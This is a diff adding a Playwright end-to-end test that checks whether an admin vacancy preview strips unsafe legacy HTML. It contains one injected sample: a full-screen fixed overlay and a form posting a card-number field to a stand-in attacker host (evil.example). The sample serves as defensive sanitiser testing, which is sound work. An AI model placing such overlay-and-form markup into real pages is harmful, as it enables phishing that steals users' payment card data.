@@ -151,3 +151,67 @@ test.describe('as COPYWRITER + HR', () => {
     }
   });
 });
+
+test.describe('as HR, editing HTML stored before the allowlist', () => {
+  test.use({ role: 'HR' });
+
+  test('the preview shows the cleaned HTML the editor shows, never the stored overlay', async ({
+    page,
+    staff,
+    request,
+    ownerToken,
+  }) => {
+    const name = unique('E2E Legacy Vacancy');
+    const created = await gql<{ createVacancy: { id: string } }>(
+      request,
+      'mutation ($input: VacancyCreateInput!) { createVacancy(input: $input) { id } }',
+      {
+        input: {
+          name,
+          languageLvl: 'B2',
+          city: 'Remote',
+          experience: '2+ years',
+          content: '<p>Kept text</p>',
+        },
+      },
+      staff.token,
+    );
+    const id = created.data!.createVacancy.id;
+    // What an older version of the site may have stored: the API cleans on write now, so the
+    // answer is rewritten on its way to the browser, as if the row held it.
+    const legacy =
+      '<p>Kept text</p><div style="position:fixed;inset:0;background:red;z-index:9999">Cover</div>' +
+      '<form action="https://evil.example"><input name="card" placeholder="Card number"></form>';
+    await page.route('**/graphql', async (route) => {
+      const body = route.request().postDataJSON() as { operationName?: string } | null;
+      const response = await route.fetch();
+      if (body?.operationName !== 'AdminVacancy') return route.fulfill({ response });
+      const json = (await response.json()) as { data: { vacancy: { content: string } } };
+      json.data.vacancy.content = legacy;
+      return route.fulfill({ response, json });
+    });
+    try {
+      await page.goto(`/admin-panel/vacancy/${id}/edit`);
+      const preview = page.getByRole('region', { name: 'Preview' });
+      await expect(preview).toContainText('Kept text');
+      // Nothing of the overlay or the form reaches the page: no styled element, no field, and the
+      // middle of the screen is the editor's page, not a red cover.
+      await expect(preview.locator('[style], form, input')).toHaveCount(0);
+      await expect(page.getByPlaceholder('Card number')).toHaveCount(0);
+      const atCentre = await page.evaluate(() => {
+        const el = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
+        return el ? getComputedStyle(el).position : 'none';
+      });
+      expect(atCentre).not.toBe('fixed');
+      // The preview and the editor show the same text.
+      const editor = page.getByRole('textbox', { name: 'Description' });
+      await expect(editor).toContainText('Kept text');
+      // The content is the preview's last block, after the title and the facts.
+      const content = preview.locator(':scope > div').last();
+      const words = (text: string) => text.split(/\s+/).filter(Boolean).join(' ');
+      expect(words(await content.innerText())).toBe(words(await editor.innerText()));
+    } finally {
+      await gql(request, 'mutation ($id: ID!) { deleteVacancy(id: $id) }', { id }, ownerToken);
+    }
+  });
+});
